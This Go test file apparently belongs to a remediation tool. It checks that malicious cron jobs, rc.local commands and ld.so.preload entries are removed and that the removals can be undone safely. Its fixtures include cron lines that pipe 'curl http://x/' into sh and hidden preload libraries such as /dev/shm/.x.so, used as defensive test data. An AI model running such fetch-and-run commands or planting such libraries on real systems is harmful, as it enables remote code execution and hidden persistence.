package respond

import (
	"errors"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"demine/internal/fact"
)

const crontabText = "# jobs\r\nMAILTO=\"\"\n0 3 * * * /usr/bin/backup\n*/5 * * * * curl http://x/\xff | sh\n\n*/5 * * * * curl http://x/\xff | sh\n30 4 * * * /opt/report --password=geheim"

func TestRemoveJobs(t *testing.T) {
	dir := folderFor(t)
	p := decked(t, dir+"/root")
	ok(t, os.WriteFile(string(p), []byte(crontabText), 0o600))
	setFlagsAt(t, string(p), "immutable")
	was := stateAt(t, p)
	x := try(t, autostartCronRemoveLine, markedLines{Path: p, Lines: []markedLine{{N: 4, Text: `*/5 * * * * curl http://x/\xff | sh`}}})
	ok(t, x.apply())
	want := strings.ReplaceAll(crontabText, "*/5 * * * * curl http://x/\xff | sh\n", "") // the copy as well
	if got := contentOf(t, p); got != want {
		t.Errorf("%q", got)
	}
	if now := stateAt(t, p); !now.has("immutable") || now.Mode != was.Mode || now.UID != was.UID || cmp.Diff(was.Xattrs, now.Xattrs) != "" {
		t.Errorf("%+v", now)
	}
	if _, err := x.a.Look(t.Context(), x.w.Host, &x.s); !errors.Is(err, ErrNothing) {
		t.Errorf("once more: %v", err)
	}
	ok(t, x.back())
	ok(t, x.back())
	if d := cmp.Diff(was, stateAt(t, p), lasting); d != "" {
		t.Error(d)
	}
	nothingLeft(t, dir)
}

// Secrets are masked in facts: lines that only look alike are told apart by the
// number, or not taken.
func TestRemoveMaskedJob(t *testing.T) {
	text := "1 1 * * * curl -u a:one http://x\n1 1 * * * curl -u a:two http://x\n"
	shown := shownLine([]byte("1 1 * * * curl -u a:one http://x"))
	if !strings.Contains(shown, "***") {
		t.Fatal(shown)
	}
	es, err := findJobs(nil, markedLines{Lines: []markedLine{{N: 2, Text: shown}}}, "", []byte(text))
	if err != nil || len(es) != 1 || es[0].N != 2 {
		t.Errorf("%v %v", es, err)
	}
	if _, err := findJobs(nil, markedLines{Lines: []markedLine{{N: 9, Text: shown}}}, "", []byte(text)); !errors.Is(err, ErrDrifted) {
		t.Errorf("one of two was chosen: %v", err)
	}
	if es, err = findJobs(nil, markedLines{Lines: []markedLine{{N: 1, Text: shown}}}, "", []byte("\n"+text[:33])); err != nil || es[0].N != 2 {
		t.Errorf("it has moved: %v %v", es, err)
	}
}

// Somebody adds a job between apply and undo: it stays.
func TestUndoKeepsOthersEdits(t *testing.T) {
	dir := folderFor(t)
	p := plant(t, dir+"/root", "a\nb\nX\nc\nd\n")
	x := try(t, autostartCronRemoveLine, markedLines{Path: p, Lines: []markedLine{{N: 3, Text: "X"}}})
	ok(t, x.apply())
	plant(t, string(p), "a\nb\nc\nd\nmine\n")
	ok(t, x.back())
	if got := contentOf(t, p); got != "a\nb\nX\nc\nd\nmine\n" {
		t.Errorf("%q", got)
	}
	ok(t, x.apply())
	plant(t, string(p), "a\nB\nc\nd\n")
	if err := x.back(); !errors.Is(err, ErrDrifted) || contentOf(t, p) != "a\nB\nc\nd\n" {
		t.Errorf("%v %q", err, contentOf(t, p))
	}
	ok(t, os.Remove(string(p)))
	if err := x.back(); !errors.Is(err, ErrDrifted) {
		t.Errorf("a file that somebody removed came back: %v", err)
	}
}

// A crash in the middle of writing in place is undone.
func TestUndoTorn(t *testing.T) {
	dir := folderFor(t)
	const old, next = "a\nb\nXXXX\nc\n", "a\nb\nc\n"
	for n := range len(next) + 1 {
		p := plant(t, dir+"/f", old)
		_ = os.Remove(dir + "/g")
		ok(t, os.Link(string(p), dir+"/g"))
		x := try(t, autostartCronRemoveLine, markedLines{Path: p, Lines: []markedLine{{N: 3, Text: "XXXX"}}})
		var err error
		x.undo, err = x.a.Prepare(t.Context(), x.w, &x.s)
		ok(t, err)
		f, err := os.OpenFile(string(p), os.O_RDWR, 0)
		ok(t, err)
		_, err = f.WriteAt([]byte(next[:n]), 0)
		ok(t, err)
		f.Close()
		ok(t, x.back())
		if got := contentOf(t, p); got != old {
			t.Errorf("cut off after %d bytes: %q", n, got)
		}
		ok(t, os.Remove(string(p)))
	}
}

func TestRemoveCommands(t *testing.T) {
	tests := []struct {
		name, text, line, want string
		n                      int
		refused                string
	}{
		{"plain", "#!/bin/sh\n/tmp/x &\nexit 0\n", "/tmp/x &", "#!/bin/sh\nexit 0\n", 2, ""},
		{"continued", "a\ncurl \\\n x | sh\nb\n", "curl   x | sh", "a\nb\n", 2, ""},
		{"in a block", "if true; then\n  /tmp/x\nfi\n", "/tmp/x", "if true; then\n:\nfi\n", 2, ""},
		{"opens a block", "if /tmp/x; then\n  true\nfi\n", "if /tmp/x; then", "", 1, "refuse.line.part-of-block"},
		{"in a pipe", "cat y |\n/tmp/x\n", "/tmp/x", "", 2, "refuse.line.part-of-block"},
		{"here document", "cat <<E\n/tmp/x\nE\n", "/tmp/x", "", 2, "refuse.line.part-of-block"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := plant(t, t.TempDir()+"/rc.local", tt.text)
			x := try(t, autostartRCRemoveLine, markedLines{Path: p, Lines: []markedLine{{N: tt.n, Text: tt.line}}})
			if got := refusedAs(x.apply()); got != tt.refused {
				t.Fatal(got)
			}
			if tt.refused != "" {
				return
			}
			if got := contentOf(t, p); got != tt.want {
				t.Errorf("%q", got)
			}
			ok(t, x.back())
			if got := contentOf(t, p); got != tt.text {
				t.Errorf("back: %q", got)
			}
		})
	}
}

// /etc/rc.local of Red Hat is a link of root's; one of a user's leads nowhere.
func TestEditThroughLink(t *testing.T) {
	dir := folderFor(t)
	p := plant(t, dir+"/real", "a\nX\n")
	ok(t, os.Symlink("real", dir+"/link"))
	x := try(t, autostartRCRemoveLine, markedLines{Path: fact.Path(dir + "/link"), Lines: []markedLine{{N: 2, Text: "X"}}})
	ok(t, x.apply())
	if contentOf(t, p) != "a\n" || stateAt(t, fact.Path(dir+"/link")).Type != "link" {
		t.Error("the link was replaced")
	}
	ok(t, x.back())
	ok(t, os.Lchown(dir+"/link", 65534, 65534))
	if got := refusedAs(x.apply()); got != "refuse.file.not-regular" || contentOf(t, p) != "a\nX\n" {
		t.Errorf("a user's link was followed: %s", got)
	}
}

func TestPreload(t *testing.T) {
	const text = "# agents\n/opt/agent.so:/dev/shm/.x.so /usr/lib/y.so\n/dev/shm/.x.so\n"
	es, err := findPreloaded(nil, preloaded{Libraries: []fact.Path{"/dev/shm/.x.so"}}, "", []byte(text))
	ok(t, err)
	next, err := editLines([]byte(text), es)
	ok(t, err)
	if want := "# agents\n/opt/agent.so: /usr/lib/y.so\n"; string(next) != want {
		t.Errorf("%q", next)
	}
	back, err := unedit(next, []byte(text), es)
	if err != nil || string(back) != text {
		t.Errorf("%q %v", back, err)
	}
}

// TestPreloadWords: the loader's words, and nobody's comments.
func TestPreloadWords(t *testing.T) {
	libraries := []fact.Path{"/dev/shm/.x.so", "/usr/lib/libhide.so", "/lib64/y.so"}
	for line, want := range map[string]string{
		"/dev/shm/.x.so # /dev/shm/.x.so: why\n": " # /dev/shm/.x.so: why\n",
		"/opt/a.so\tlibhide.so:/$LIB/y.so\n":     "/opt/a.so\t:\n",
		"/dev/shm//.x.so#one\n":                  "#one\n",
		"# /dev/shm/.x.so taken out\n":           "",
		"/opt/libhide.so /dev/shm/.x.so.old\n":   "",
	} {
		left, gone := withoutNames([]byte(line), libraries)
		if gone != (want != "") || gone && string(left) != want {
			t.Errorf("%q: %q %v", line, left, gone)
		}
	}
}
